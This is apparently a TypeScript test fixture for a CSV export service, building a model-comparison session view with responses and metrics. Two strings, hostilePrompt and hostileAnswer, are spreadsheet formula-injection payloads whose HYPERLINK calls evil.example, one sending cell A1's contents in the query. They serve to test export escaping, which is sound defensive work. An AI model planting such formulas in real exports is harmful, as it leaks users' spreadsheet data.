// Session views for the export tests, shaped as GET /comparison/:id returns them.
import type { SessionView } from '../../../src/services/export/session-view.js';

export const hostilePrompt =
  '=HYPERLINK("http://evil.example/?q="&A1, "click me")\nSecond line, with "quotes"';
export const hostileAnswer = '=HYPERLINK("http://evil.example","x"), then, "quoted"\r\nand a new line';

export function sessionView(overrides: Partial<SessionView> = {}): SessionView & { streamUrl: string } {
  return {
    id: '3f0c2a8e-1b2c-4d5e-8f90-123456789abc',
    prompt: 'Explain CSV quoting',
    system: null,
    temperature: null,
    maxTokens: null,
    status: 'completed',
    errorMessage: null,
    responses: [
      {
        modelId: 'gpt-4o-mini',
        provider: 'openai',
        status: 'completed',
        response: 'First answer',
        inputTokens: 12,
        outputTokens: 340,
        cost: 0.0000123,
        timeToFirstTokenMs: 312,
        responseTimeMs: 2104,
        tokensPerSecond: 190.1,
        errorMessage: null,
      },
      {
        modelId: 'claude-haiku-4-5',
        provider: 'anthropic',
        status: 'error',
        response: '',
        inputTokens: 0,
        outputTokens: 0,
        cost: 0,
        timeToFirstTokenMs: null,
        responseTimeMs: null,
        tokensPerSecond: null,
        errorMessage: 'Upstream failed',
      },
    ],
    metrics: { totalTokens: 352, totalCost: 0.0000123, averageResponseTime: 2104 },
    streamUrl: '/comparison/3f0c2a8e-1b2c-4d5e-8f90-123456789abc/stream?ticket=secret-ticket',
    createdAt: '2025-03-04T10:11:12.000Z',
    ...overrides,
  };
}
